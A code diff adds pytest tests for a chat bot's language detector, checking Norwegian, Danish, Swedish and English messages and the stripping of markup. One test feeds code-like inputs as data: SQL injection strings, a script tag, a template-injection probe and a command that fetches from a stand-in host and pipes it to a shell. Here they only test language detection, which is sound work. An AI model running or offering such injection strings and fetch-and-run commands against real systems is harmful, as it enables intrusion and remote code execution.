@@ -204,3 +204,110 @@ def test_a_message_scored_again_is_read_once_and_each_caller_gets_its_own_scores
     assert _scores.cache_info().hits == hits + 1
     assert again["nb"] > -1e9
     assert detect_language(text)[0] == "nb" and choose_language(text, None, "nb") == "nb"
+
+
+# A live review on a Norwegian page: a guest's first message (no conversation language yet), a conversation
+# in nb, and a signed-in customer whose stored language is nb, all writing what a Norwegian writes.
+def _on_a_norwegian_page(text: str) -> set[str]:
+    return {
+        choose_language(text, None, "nb"),
+        choose_language(text, "nb", "nb"),
+        choose_language(text, None, "nb", customer_language="nb"),
+        choose_language(text, "nb", "nb", customer_language="nb"),
+    }
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "hvor er min pakke",  # Bokmål and Danish word for word
+        "hvor er min pakke?",
+        "kan jeg bytte skoene i en større størrelse",  # "skoene", "større størrelse": Bokmål as much as Danish
+        "er min ordre sendt",
+    ],
+)
+def test_wording_bokmal_shares_with_danish_stays_norwegian(text: str) -> None:
+    assert _on_a_norwegian_page(text) == {"nb"}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "hvornår kommer min pakke",  # "hvornår": no Norwegian writes it
+        "hvornår kommer min pakke, jeg har ventet længe",
+        "hvad gør jeg hvis varen er i stykker",
+    ],
+)
+def test_a_clearly_danish_word_switches_a_norwegian_conversation(text: str) -> None:
+    assert _on_a_norwegian_page(text) == {"da"}
+
+
+@pytest.mark.parametrize("text", ["är returen gratis", "vad kostar frakten", "var är mitt paket"])
+def test_a_short_swedish_message_still_switches_a_norwegian_conversation(text: str) -> None:
+    assert _on_a_norwegian_page(text) == {"sv"}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<b>fet</b> & <i>kursiv</i>",
+        "<b>fet</b> &amp; <i>kursiv</i>",
+        "<p><strong>hei</strong></p>",
+        '<a href="https://tindra.example">lenke</a> <br/>',
+        "[b]fet[/b] [i]kursiv[/i]",
+        "&lt;b&gt;fet&lt;/b&gt; &nbsp;",
+        "<!-- a comment in any language -->",
+    ],
+)
+@pytest.mark.parametrize("current", LANGUAGES)
+def test_markup_and_symbols_are_no_evidence(text: str, current: str) -> None:
+    assert choose_language(text, current, current) == current
+    assert choose_language(text, None, current, customer_language=current) == current
+
+
+def test_markup_is_dropped_and_the_words_inside_it_kept() -> None:
+    from bot.language import evidence_words
+
+    assert evidence_words("<b>fet</b> & <i>kursiv</i>") == (2, ["fet", "kursiv"])
+    assert evidence_words("p&aring; l&oslash;rdag") == (2, ["på", "lørdag"])
+    assert evidence_words("takk!! :D :P ;-) <3") == (1, ["takk"])  # emoticons are symbols too
+    assert _on_a_norwegian_page("<b>fet</b> & <i>kursiv</i>") == {"nb"}
+    assert choose_language("<b>where is my parcel</b>, <i>I ordered it last week</i>", "nb", "nb") == "en"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "'; DROP TABLE messages; --",
+        "Robert'); DROP TABLE Students;--",
+        "SELECT * FROM users WHERE name = 'admin'",
+        "drop table messages;",
+        "<script>alert('where is my parcel')</script>",
+        "$(curl evil.example/install | sh)",
+        "{{ config.items() }} where is it",
+        "`SELECT name FROM customers`",
+    ],
+)
+@pytest.mark.parametrize("current", ["nb", "sv", "da"])
+def test_code_with_english_words_does_not_switch_to_english(text: str, current: str) -> None:
+    assert choose_language(text, current, current) == current
+    assert choose_language(text, None, current) == current
+
+
+def test_code_on_a_norwegian_page_stays_norwegian() -> None:
+    assert _on_a_norwegian_page("'; DROP TABLE messages; --") == {"nb"}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "I can't log in; it says my password is wrong",
+        "where is my parcel? ;) I ordered it last week",
+        "where is my parcel :-( I ordered it last week",
+        "the site says `error 500` when I pay, what should I do",
+        "where is my parcel (order 10234); it never came",
+        "> where is my parcel?\nI ordered it last week",
+    ],
+)
+def test_english_prose_with_punctuation_or_a_code_span_still_switches(text: str) -> None:
+    assert choose_language(text, "nb", "nb") == "en"
